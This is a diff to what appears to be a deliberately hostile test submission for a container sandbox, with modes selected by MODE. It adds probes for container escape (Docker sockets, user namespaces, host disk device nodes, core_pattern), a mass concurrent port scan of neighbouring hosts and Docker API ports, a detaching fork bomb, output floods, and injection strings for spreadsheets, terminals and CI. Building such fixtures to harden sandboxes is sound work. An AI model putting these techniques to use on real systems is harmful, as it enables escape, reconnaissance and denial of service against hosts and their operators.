@@ -1,10 +1,14 @@
 """A submission that means harm; MODE says which. All that it does ends with its container."""
 
 import contextlib
+import ctypes
 import functools
 import os
+import resource
+import selectors
 import signal
 import socket
+import stat
 import struct
 import sys
 import threading
@@ -52,10 +56,14 @@ def send_bomb(connection):
         connection.sendall(block)
 
 
+def tear(connection):
+    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+
+
 def reset(connection):
     """Half an answer, and the connection is torn."""
     connection.sendall(OK + b"Content-Length: 1000\r\n\r\n" + GREETING)
-    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    tear(connection)
 
 
 answered = 0
@@ -76,32 +84,51 @@ def report(connection):
 
 @functools.cache
 def reached():
-    """What of the world outside answers."""
-    found = []
+    """What of the world outside answers, or can be done to it."""
+    found = [*sockets(), *devices()]
+    if ctypes.CDLL(None).unshare(0x10000000) == 0:  # CLONE_NEWUSER: the engine's seccomp profile refuses it
+        found.append(b"a user namespace")
+    if "NoNewPrivs:\t0" in Path("/proc/self/status").read_text():
+        found.append(b"privileges of a setuid program")
+    thread = threading.Thread(target=look_up, args=("example.com", found), daemon=True)
+    thread.start()
     own = socket.gethostbyname(socket.gethostname())
-    network = own.rpartition(".")[0]
-    neighbours = [f"{network}.{n}" for n in range(2, 31) if f"{network}.{n}" != own]
-    places = [("1.1.1.1", 53), ("9.9.9.9", 443), *((n, 5000) for n in neighbours)]
-    threads = [threading.Thread(target=knock, args=(place, found), daemon=True) for place in places]
-    threads.append(threading.Thread(target=look_up, args=("example.com", found), daemon=True))
-    for thread in threads:
-        thread.start()
-    until = time.monotonic() + 3
-    for thread in threads:
-        thread.join(max(until - time.monotonic(), 0))
+    host = own.rpartition(".")[0] + ".1"
+    networks = [f"198.18.{n}" for n in range(128, 256)] + [f"198.19.{n}" for n in range(128)]
+    neighbours = [f"{network}.{n}" for network in networks for n in range(2, 6)]
+    neighbours += [f"{own.rpartition('.')[0]}.{n}" for n in range(6, 255)]
+    ports = [(host, port) for port in (2375, 2376, 4243, 9323)]  # the engine's own, where it has any
+    others = [(each, 5000) for each in neighbours if each != own]
+    found += knock([("1.1.1.1", 53), ("9.9.9.9", 443), *ports, *others])
+    thread.join(2)
+    return found
+
+
+def sockets():
+    """The engine's, and raw ones."""
     for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
         if Path(path).exists():
-            found.append(path.encode())
+            yield path.encode()
     for family, kind, protocol in (
         (socket.AF_PACKET, socket.SOCK_RAW, 0x0806),  # ARP in another's name
         (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
     ):
-        try:
+        with contextlib.suppress(PermissionError):
             socket.socket(family, kind, protocol).close()
-            found.append(b"raw socket")
-        except PermissionError:
-            pass
-    return found
+            yield b"raw socket"
+
+
+def devices():
+    """The host's disks, which root may make a node of, and what steers its kernel."""
+    for major in (8, 253, 254, 259):
+        with contextlib.suppress(OSError):
+            os.mknod(f"/tmp/disk-{major}", 0o600 | stat.S_IFBLK, os.makedev(major, 0))
+            os.close(os.open(f"/tmp/disk-{major}", os.O_RDONLY))
+            yield b"a disk"
+    for path in ("/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper"):
+        with contextlib.suppress(OSError):
+            os.close(os.open(path, os.O_WRONLY))
+            yield path.encode()
 
 
 def look_up(name, found):
@@ -109,12 +136,23 @@ def look_up(name, found):
         found.append(socket.gethostbyname(name).encode())
 
 
-def knock(place, found):
-    try:
-        socket.create_connection(place, 1.5).close()
-        found.append(b"%s:%d" % (place[0].encode(), place[1]))
-    except OSError:
-        pass
+def knock(places, seconds=1.5):
+    """Which of them take a connection; all are asked at once."""
+    resource.setrlimit(resource.RLIMIT_NOFILE, [resource.getrlimit(resource.RLIMIT_NOFILE)[1]] * 2)
+    with selectors.DefaultSelector() as selector:
+        for place in places:
+            there = socket.socket()
+            there.setblocking(False)
+            there.connect_ex(place)
+            selector.register(there, selectors.EVENT_WRITE, place)
+        until = time.monotonic() + seconds
+        while (left := until - time.monotonic()) > 0 and selector.get_map():
+            for key, _events in selector.select(left):
+                with contextlib.suppress(OSError):
+                    key.fileobj.getpeername()
+                    yield b"%s:%d" % (key.data[0].encode(), key.data[1])
+                selector.unregister(key.fileobj)
+                key.fileobj.close()
 
 
 # What `/` does with the connection.
@@ -130,6 +168,7 @@ ROOT = {
     "http-0.9": send(GREETING),
     "resets": reset,
     "freezes": freeze_after_the_first,
+    "freezes-whole": freeze_after_the_first,
     "reaches-out": report,
     "greeting-disguised": send(
         answer('=HYPERLINK("http://192.0.2.1")\n\x1b]0;owned\a\u202e::error::\r::warning::'.encode())
@@ -208,7 +247,17 @@ def probe():
     if MODE == "probe-floods":
         for _ in range(1000):
             os.write(1, b"all is well \x1b[2J\xff" * 1000)
-    if MODE == "probe-forks" and os.fork() == 0:
+    while MODE == "probe-endless":
+        os.write(1, b"all is well \x1b[2J\xff" * 1000)
+    if MODE == "probe-forks":
+        fork_away()
+
+
+def fork_away():
+    """As many processes as there may be, and none of them ends with the probe."""
+    with contextlib.suppress(OSError):
+        while os.fork():
+            pass
         os.setsid()
         null = os.open(os.devnull, os.O_RDWR)
         for number in range(3):
@@ -219,7 +268,13 @@ def probe():
 def serve(connection):
     with connection:
         try:
+            if MODE == "answers-unasked":
+                connection.sendall(answer(GREETING))
             request = connection.recv(65536)
+            if MODE == "answers-unasked":
+                return tear(connection)
+            if MODE == "freezes-whole" and not request.startswith(b"GET / "):
+                time.sleep(1e6)
             if request.startswith(b"GET /health"):
                 connection.sendall(answer(HEALTHS.get(MODE, lambda: HEALTH)()))
             else:
@@ -257,7 +312,7 @@ def main():
     server = socket.create_server(("0.0.0.0", 5000))
     if MODE == "restarts":
         serve_in_a_process_each(server)
-    while MODE in BESIDE:  # there may be no room for a thread
+    while MODE in BESIDE or MODE == "probe-forks":  # there may be no room for a thread
         serve(server.accept()[0])
     while True:
         threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
